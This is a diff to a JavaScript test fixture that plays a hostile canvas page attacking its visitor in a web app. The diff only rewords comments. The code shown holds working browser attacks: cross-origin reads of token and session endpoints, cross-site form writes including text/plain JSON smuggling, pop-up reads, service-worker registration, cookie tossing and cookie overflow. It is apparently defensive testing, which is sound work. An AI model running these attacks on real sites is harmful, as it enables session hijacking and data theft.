@@ -1,6 +1,6 @@
 /*
- * What a canvas page tries against whoever opens it: each attack answers all that it got to read. The victim's canvas, the
- * base address and an invitation of the attacker stand in the fragment of the page's address.
+ * Attacks of a canvas page on its visitor: each returns all text that it could read. The victim's canvas, the
+ * base URL and an invitation of the attacker are in the fragment of the page's URL.
  */
 
 const { base, id, slug, canvas, invitation } = JSON.parse(decodeURIComponent(location.hash.slice(1)));
@@ -8,7 +8,7 @@ const runtime = `${base}/v1/c/${slug}`;
 const LONG = 700;
 
 const pause = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));
-/** The texts of many tries at once; a try that fails has read nothing. */
+/** Returns the texts of concurrent attempts; a failed attempt has read nothing. */
 const all = async (tries) =>
   (await Promise.allSettled(tries.map((each) => each()))).map(({ value }) => value ?? "").join("\n");
 const get = async (url, init) => (await fetch(url, init)).text();
@@ -17,7 +17,7 @@ const READS = ["canvases", "me", "tokens", "sessions", "teams", `canvases/${id}`
   .map((path) => `${base}/api/${path}`)
   .concat(`${runtime}/me`, `${runtime}/kv`, `${runtime}/kv/plan`, canvas, `${base}/`, `${base}/auth/login`);
 
-/** What would change something, were it done: method, address, body. */
+/** Requests that would change something: method, URL, body. */
 const WRITES = [
   ["PUT", `${base}/api/canvases/${id}/sharing`, { access: "whole_org" }],
   ["PATCH", `${base}/api/canvases/${id}`, { title: "Taken" }],
@@ -43,7 +43,7 @@ const ENCTYPES = TYPES.slice(1);
 const form = (body) => new URLSearchParams(Object.entries(body ?? {}));
 const bodyOf = (type, body) => (type === ENCTYPES[1] ? form(body).toString() : JSON.stringify(body ?? {}));
 
-/** Shows an address inside this page, and reads it. */
+/** Embeds a URL in this page and reads it. */
 async function embed(tag, attribute, url) {
   const element = document.createElement(tag);
   const ended = new Promise((resolve) => {
@@ -67,12 +67,12 @@ async function embed(tag, attribute, url) {
   }
 }
 
-/** Sends a form as a person would, into a frame of this page. */
+/** Submits a form into a frame of this page. */
 async function submit(action, enctype, body, method = "post") {
   const frame = document.createElement("iframe");
   frame.name = `frame-${Math.random()}`;
   const sent = Object.assign(document.createElement("form"), { action, enctype, method, target: frame.name });
-  // As text the one field is a JSON document.
+  // Sent as text/plain, the only field is a JSON document.
   const fields =
     enctype === "text/plain" ? [[JSON.stringify(body ?? {}).replace(/}?$/, ',"a":"'), '"}']] : form(body);
   for (const [name, value] of fields) {
@@ -93,7 +93,7 @@ async function submit(action, enctype, body, method = "post") {
   }
 }
 
-/** Opens an address in a window of its own, reads it and calls from it. */
+/** Opens a URL in a new window, reads it and sends requests from it. */
 async function popUp(url) {
   const other = open(url);
   try {
@@ -122,7 +122,7 @@ async function register(script, scope) {
   return ` controls ${worker.scope} `;
 }
 
-/** Sets cookies for the base host and everything below it, under every name that might be taken for the session's. */
+/** Sets cookies for the base host and its subdomains, under every name that could be the session cookie. */
 globalThis.toss = async (token, secure) => {
   const own = `${secure ? "__Host-" : ""}easel_session`;
   const names = [own, "easel_session", "__host-easel_session", "", "\u2000", "\u00a0", "\u0085"].flatMap(
@@ -133,7 +133,7 @@ globalThis.toss = async (token, secure) => {
     for (const domain of ["", `; Domain=${new URL(base).hostname}`, `; Domain=.${new URL(base).hostname}`]) {
       for (const path of ["/", "/api", "/auth", "/v1", ""]) {
         for (const rest of ["", "; Secure", "; Secure; SameSite=None"]) {
-          // biome-ignore lint/suspicious/noDocumentCookie: what an attacker does.
+          // biome-ignore lint/suspicious/noDocumentCookie: the attack under test.
           document.cookie = `${pair}${domain}; Path=${path}${rest}; Max-Age=9999`;
         }
       }
@@ -145,10 +145,10 @@ globalThis.toss = async (token, secure) => {
   return document.cookie;
 };
 
-/** Sets so many cookies that the browser drops others of the site. */
+/** Sets enough cookies that the browser evicts others of the site. */
 globalThis.overflow = (count) => {
   for (let n = 0; n < count; n++) {
-    // biome-ignore lint/suspicious/noDocumentCookie: what an attacker does.
+    // biome-ignore lint/suspicious/noDocumentCookie: the attack under test.
     document.cookie = `crowd${n}=1; Domain=${new URL(base).hostname}; Path=/; Secure; Max-Age=9999`;
   }
   return document.cookie.length;
@@ -288,6 +288,6 @@ globalThis.attacks = {
 
   "opens another canvas": () => all([() => popUp(canvas)]),
 
-  "opens an answer that is no page": () =>
+  "opens a response that is no page": () =>
     all([`${base}/healthz`, `${runtime}/me`, `${base}/api/me`].map((url) => () => popUp(url))),
 };
